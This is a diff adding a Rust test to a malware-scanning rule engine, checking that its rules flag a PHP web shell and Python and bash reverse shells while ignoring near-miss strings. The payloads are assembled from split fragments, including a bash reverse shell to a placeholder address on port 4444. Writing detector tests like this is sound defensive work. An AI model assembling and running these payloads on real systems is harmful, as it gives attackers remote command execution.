@@ -60,6 +60,44 @@ fn scripts_that_fetch_and_run_packed_programs_and_jobs_are_suspicious() {
     );
 }
 
+#[test]
+fn shells_of_the_web_and_of_the_network_are_malware_in_one_line_or_in_many() {
+    let rules = Rules::load("").unwrap_or_else(|error| panic!("{error}"));
+    let php = |between: &str| ["<?php", between, "ev", "al($_PO", "ST['c']); ?>"].concat();
+    let python = |end: &str| {
+        [
+            "import os;s=socket.soc",
+            "ket();",
+            end,
+            "os.du",
+            "p2(s.fileno(),0);",
+            end,
+            "p=call(['/bin",
+            "/sh'])",
+        ]
+        .concat()
+    };
+    let bash = ["bash -", "i >& /dev/t", "cp/192.0.2.1/4444 0>", "&1"].concat();
+    for (text, name) in [
+        (php(" @"), "php_web_shell"),
+        (php("\n// nothing\n@"), "php_web_shell"),
+        (python(" "), "reverse_shell_script"),
+        (python("\n"), "reverse_shell_script"),
+        (bash, "reverse_shell_script"),
+    ] {
+        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
+        assert_eq!(found, [(name.to_owned(), Meaning::Malware)], "{text}");
+    }
+    for text in [
+        php(&" ".repeat(500)),
+        php("\n$").replace("POST[", "POSTED["),
+        "<?php system('ls'); $_GET['x'];".into(),
+    ] {
+        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
+        assert_eq!(found, [], "{text}");
+    }
+}
+
 /// The text of each built-in rule, by its name.
 fn built_in() -> Vec<(&'static str, &'static str)> {
     let rules = BUILT_IN.split("\nrule ").map(|text| text.trim_start_matches("rule "));
